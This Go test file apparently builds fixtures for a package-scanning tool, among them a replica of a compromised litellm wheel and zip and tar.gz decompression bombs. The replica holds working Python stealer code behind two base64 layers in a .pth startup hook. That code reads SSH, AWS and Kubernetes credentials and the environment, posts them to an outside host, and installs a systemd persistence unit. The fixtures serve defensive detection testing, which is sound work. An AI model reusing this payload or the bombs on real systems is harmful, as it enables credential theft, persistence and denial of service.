package cli

// Builders for the end-to-end fixtures. Every fixture is inert text written
// here and packed into an archive at test time; nothing is ever executed.

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// fixedTime keeps archives byte-for-byte reproducible.
var fixedTime = time.Date(2026, 3, 24, 10, 52, 0, 0, time.UTC)

// entry is one member of an archive.
type entry struct {
	name string
	body string
	mode int64  // 0 means 0o644
	link string // symlink target (tar only)
}

func writeFile(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// zipBytes packs entries into a zip archive.
func zipBytes(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: fixedTime}
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		h.SetMode(os.FileMode(mode))
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tarGzBytes packs entries into a gzip-compressed tar archive.
func tarGzBytes(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	gz.ModTime = fixedTime
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		h := &tar.Header{Name: e.name, Mode: mode, ModTime: fixedTime, Format: tar.FormatPAX}
		if e.link != "" {
			h.Typeflag = tar.TypeSymlink
			h.Linkname = e.link
			h.Mode = 0o777
		} else {
			h.Typeflag = tar.TypeReg
			h.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.link == "" {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// recordHash is a RECORD hash: sha256, urlsafe base64 without padding.
func recordHash(body string) string {
	sum := sha256.Sum256([]byte(body))
	return "sha256=" + base64.RawURLEncoding.EncodeToString(sum[:])
}

// wheelEntries adds the dist-info files (METADATA, WHEEL, RECORD with
// correct hashes) to the given package files.
func wheelEntries(name, version string, files []entry) []entry {
	distInfo := strings.ReplaceAll(name, "-", "_") + "-" + version + ".dist-info"
	out := append([]entry(nil), files...)
	out = append(out,
		entry{name: distInfo + "/METADATA", body: fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: test fixture\nRequires-Python: >=3.8\n\n%s\n", name, version, name)},
		entry{name: distInfo + "/WHEEL", body: "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	)
	var rec strings.Builder
	for _, e := range out {
		fmt.Fprintf(&rec, "%s,%s,%d\n", e.name, recordHash(e.body), len(e.body))
	}
	fmt.Fprintf(&rec, "%s/RECORD,,\n", distInfo)
	return append(out, entry{name: distInfo + "/RECORD", body: rec.String()})
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// stage2 is the inert second stage of the litellm replica: it names the
// credential files, the exfiltration endpoint and the persistence unit the
// real payload used (THREATS.md), but is only ever read as text.
const stage2 = `import os, json, subprocess
import requests

loot = {}
loot["ssh"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
loot["aws"] = open(os.path.expanduser("~/.aws/credentials")).read()
loot["kube"] = open(os.path.expanduser("~/.kube/config")).read()
loot["sa"] = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
loot["env"] = dict(os.environ)
requests.post("https://models.litellm.cloud/", data=json.dumps(loot), timeout=10)
unit = os.path.expanduser("~/.config/systemd/user/sysmon.service")
os.makedirs(os.path.dirname(unit), exist_ok=True)
with open(unit, "w") as f:
    f.write("[Service]\nExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"])
`

// litellmPthPayload is the outer base64 of the .pth line: decoding it gives
// exec(base64.b64decode('<base64 of stage2>')), so stage 2 sits behind two
// base64 layers.
func litellmPthPayload() string {
	return b64("exec(base64.b64decode('" + b64(stage2) + "'))")
}

// litellmPthLine is line 1 of litellm_init.pth.
func litellmPthLine() string {
	return `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('` +
		litellmPthPayload() + `'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)`
}

const litellmInit = `"""litellm: call all LLM APIs using the OpenAI format."""
import threading
from typing import Optional

__version__ = "1.82.8"

api_key: Optional[str] = None
api_base: Optional[str] = None
request_timeout: float = 600
num_retries: int = 0
_lock = threading.Lock()


def completion(model: str, messages: list, **kwargs):
    """Route a chat completion to the provider named by model."""
    provider, _, name = model.partition("/")
    return {"provider": provider or "openai", "model": name or model, "messages": messages}
`

// litellm1828Wheel is a replica of litellm 1.82.8: a startup hook whose
// line 1 spawns the interpreter on a double-base64 stage 2.
func litellm1828Wheel(t *testing.T) []byte {
	return zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
		{name: "litellm/__init__.py", body: litellmInit},
		{name: "litellm_init.pth", body: litellmPthLine() + "\n"},
	}))
}

// fillChunk is 1 MiB of one byte value as a flushed, non-final deflate
// segment: segments that use no history before their own start can be
// concatenated into one stream.
const zeroChunkSize = 1 << 20

func fillChunk(t *testing.T, fill byte) []byte {
	t.Helper()
	return deflateSegment(t, bytes.Repeat([]byte{fill}, zeroChunkSize))
}

func zeroChunk(t *testing.T) []byte { return fillChunk(t, 0) }

// deflateSegment compresses data as one flushed, non-final segment.
func deflateSegment(t *testing.T, data []byte) []byte {
	t.Helper()
	var c bytes.Buffer
	fw, _ := flate.NewWriter(&c, flate.BestCompression)
	fw.Write(data)
	fw.Flush()
	return c.Bytes()
}

// finalBlock ends a deflate stream: an empty, final stored block.
var finalBlock = []byte{0x01, 0x00, 0x00, 0xff, 0xff}

// fillStream returns a raw deflate stream of size bytes of fill (a
// multiple of 1 MiB) and its CRC-32, built without compressing size bytes.
func fillStream(t *testing.T, size int64, fill byte) ([]byte, uint32) {
	t.Helper()
	if size%zeroChunkSize != 0 {
		t.Fatalf("size must be a multiple of %d", zeroChunkSize)
	}
	chunk := fillChunk(t, fill)
	zeros := bytes.Repeat([]byte{fill}, zeroChunkSize)
	var raw bytes.Buffer
	crc := uint32(0)
	for i := int64(0); i < size/zeroChunkSize; i++ {
		raw.Write(chunk)
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	raw.Write(finalBlock)
	return raw.Bytes(), crc
}

// zipBombBytes writes a zip whose entries each declare and inflate to size
// bytes of fill (0 makes binary content, 'A' text).
func zipBombBytes(t *testing.T, size int64, fill byte, names ...string) []byte {
	t.Helper()
	raw, crc := fillStream(t, size, fill)
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range names {
		w, err := zw.CreateRaw(&zip.FileHeader{
			Name: name, Method: zip.Deflate, Modified: fixedTime,
			CRC32: crc, CompressedSize64: uint64(len(raw)), UncompressedSize64: uint64(size),
		})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(raw)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tarGzBombBytes writes a .tar.gz holding package/package.json and one
// entry of size zeros, assembled from deflate segments.
func tarGzBombBytes(t *testing.T, size int64) []byte {
	t.Helper()
	var head bytes.Buffer
	tw := tar.NewWriter(&head)
	pj := `{"name": "tarbomb", "version": "1.0.0"}`
	tw.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(pj)), ModTime: fixedTime, Typeflag: tar.TypeReg})
	tw.Write([]byte(pj))
	tw.WriteHeader(&tar.Header{Name: "package/zeros.bin", Mode: 0o644, Size: size, ModTime: fixedTime, Typeflag: tar.TypeReg})
	tw.Flush() // header only; the content follows as zero chunks
	if size%zeroChunkSize != 0 {
		t.Fatalf("size must be a multiple of %d", zeroChunkSize)
	}
	trailer := make([]byte, 1024) // two zero blocks end a tar archive

	var raw bytes.Buffer
	raw.Write(deflateSegment(t, head.Bytes()))
	chunk := zeroChunk(t)
	zeros := make([]byte, zeroChunkSize)
	crc := crc32.Update(0, crc32.IEEETable, head.Bytes())
	for i := int64(0); i < size/zeroChunkSize; i++ {
		raw.Write(chunk)
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	raw.Write(deflateSegment(t, trailer))
	crc = crc32.Update(crc, crc32.IEEETable, trailer)
	raw.Write(finalBlock)
	total := int64(head.Len()) + size + int64(len(trailer))

	var out bytes.Buffer
	out.Write([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff}) // gzip header, no name
	out.Write(raw.Bytes())
	var tail [8]byte
	binary.LittleEndian.PutUint32(tail[:4], crc)
	binary.LittleEndian.PutUint32(tail[4:], uint32(total))
	out.Write(tail[:])
	return out.Bytes()
}
